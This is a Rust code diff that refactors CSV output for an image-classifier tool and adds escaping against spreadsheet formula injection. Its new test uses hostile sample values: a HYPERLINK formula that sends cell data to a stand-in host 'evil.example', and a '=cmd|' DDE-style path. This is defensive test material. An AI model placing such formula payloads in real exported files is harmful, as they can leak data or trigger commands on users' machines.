@@ -4,6 +4,7 @@ use std::fmt::Write as _;
 
 use calmix::core::shown::is_command;
 use calmix::model::Prediction;
+use calmix::run::csv_line::{CsvCell, csv_line};
 use serde::Serialize;
 
 /// The formats of rows.
@@ -62,18 +63,18 @@ impl RowFormat<'_> {
         if self.kind != RowKind::Csv {
             return String::new();
         }
-        let mut header = "path,label,confidence,margin,set,abstain,error".to_owned();
-        for class in self.classes.iter().filter(|_| self.probabilities) {
-            header.push(',');
-            header.push_str(&field(&format!("p({})", escaped(class.as_bytes()))));
-        }
-        header + "\n"
+        let names = ["path", "label", "confidence", "margin", "set", "abstain", "error"];
+        let probabilities = self.classes.iter().filter(|_| self.probabilities);
+        let probabilities =
+            probabilities.map(|class| CsvCell::text(format!("p({})", escaped(class.as_bytes()))));
+        csv_line(names.map(CsvCell::text).into_iter().chain(probabilities))
     }
 
     /// What every row of this path begins with, and no row of another path.
     pub(crate) fn beginning(&self, path: &str) -> String {
         match self.kind {
-            RowKind::Csv => field(path) + ",",
+            // With an empty cell behind it, and without the end of the line.
+            RowKind::Csv => csv_line([text_cell(path), CsvCell::text("")]).trim_end_matches('\n').to_owned(),
             RowKind::Jsonl => format!("{{\"path\":{},", serde_json::Value::from(path)),
             RowKind::Parquet => format!("{path}\n"),
         }
@@ -105,25 +106,26 @@ impl RowFormat<'_> {
     }
 
     fn csv(&self, PredictedImage { path, said, error }: &PredictedImage<'_>) -> String {
-        let mut row = field(path);
-        if let Some(Prediction { label, confidence, margin, set, abstain, .. }) = said {
-            let listed = |class: &u32| escaped(self.class(*class as usize).as_bytes()).replace('|', "\\x7c");
-            let set = set.as_ref().map(|set| set.iter().map(listed).collect::<Vec<_>>().join("|"));
-            let abstain = abstain.map(|abstain| abstain.to_string()).unwrap_or_default();
-            let (label, set) =
-                (field(&escaped(self.class(*label).as_bytes())), field(&set.unwrap_or_default()));
-            // Writing to a string does not fail.
-            let _ = write!(row, ",{label},{confidence},{margin},{set},{abstain},");
-        } else {
-            row.push_str(",,,,,,");
-            row.push_str(&field(&escaped(error.as_deref().unwrap_or_default().as_bytes())));
-        }
+        let class = |class: usize| escaped(self.class(class).as_bytes());
+        let set = said.and_then(|said| said.set.as_ref());
+        let set = set.map(|set| {
+            let members = set.iter().map(|&member| class(member as usize).replace('|', "\\x7c"));
+            members.collect::<Vec<_>>().join("|")
+        });
+        let mut cells = vec![
+            text_cell(path),
+            text_cell(&said.map(|said| class(said.label)).unwrap_or_default()),
+            CsvCell::plain(said.map(|said| said.confidence)),
+            CsvCell::plain(said.map(|said| said.margin)),
+            text_cell(&set.unwrap_or_default()),
+            CsvCell::plain(said.and_then(|said| said.abstain)),
+            text_cell(&escaped(error.as_deref().unwrap_or_default().as_bytes())),
+        ];
         if self.probabilities {
-            let none = vec![None; self.classes.len()];
-            let all = said.map_or(none, |said| said.probabilities.iter().map(|&p| Some(p)).collect());
-            row.extend(all.iter().map(|p| format!(",{}", p.map(|p| p.to_string()).unwrap_or_default())));
+            let probability = |class| said.and_then(|said| said.probabilities.get(class));
+            cells.extend((0..self.classes.len()).map(|class| CsvCell::plain(probability(class))));
         }
-        row + "\n"
+        csv_line(cells)
     }
 }
 
@@ -150,18 +152,47 @@ pub(crate) fn escaped(bytes: &[u8]) -> String {
     text
 }
 
-/// A field of CSV, in quotes where it needs them.
-fn field(text: &str) -> String {
-    if text.contains([',', '"']) || text.starts_with(' ') || text.ends_with(' ') {
-        format!("\"{}\"", text.replace('"', "\"\""))
-    } else {
-        text.to_owned()
+/// Makes a cell of an escaped text. An apostrophe in front marks a text that looks like a formula, so one of the text's own is
+/// written `\x27`: two paths never have the same cell.
+fn text_cell(text: &str) -> CsvCell<'static> {
+    match text.strip_prefix('\'') {
+        Some(rest) => CsvCell::text(format!("\\x27{rest}")),
+        None => CsvCell::text(text.to_owned()),
     }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// Numbers stay numbers, and two paths never have the same cell.
+    #[test]
+    fn csv_guards_spreadsheet_formulas() {
+        let classes = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"cat\")".to_owned(), "-1".to_owned()];
+        let said = Prediction {
+            label: 0,
+            confidence: 0.75,
+            margin: -0.5,
+            probabilities: vec![0.75, 0.25],
+            set: Some(vec![0, 1]),
+            abstain: Some(false),
+        };
+        let format =
+            RowFormat { kind: RowKind::Csv, classes: &classes, probabilities: false, rows_of_part: 1 };
+        let row = |path: &str, said| format.row(&PredictedImage { path: path.to_owned(), said, error: None });
+        let class = "'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"cat\"\")";
+        let expected = format!("'=cmd|calc.png,\"{class}\",0.75,-0.5,\"{class}|-1\",false,\n");
+        assert_eq!(row("=cmd|calc.png", Some(&said)), expected);
+        let other = Prediction { label: 1, set: Some(vec![1, 0]), ..said.clone() };
+        assert!(row("a", Some(&other)).starts_with("a,-1,0.75,-0.5,\"'-1|=HYPERLINK("));
+        let paths = ["=a", "'=a", "''=a", "\"=a", "+a", "-a", "@a", "a", "-1", "'-1"];
+        for path in paths {
+            assert!(row(path, None).starts_with(&format.beginning(path)), "{path}");
+            assert!(!row(path, None).starts_with(['=', '+', '@']), "{path}");
+            let taken = paths.iter().filter(|other| row(other, None).starts_with(&format.beginning(path)));
+            assert_eq!(taken.count(), 1, "{path}");
+        }
+    }
 
     #[test]
     fn a_row_is_one_line_whatever_the_names() {
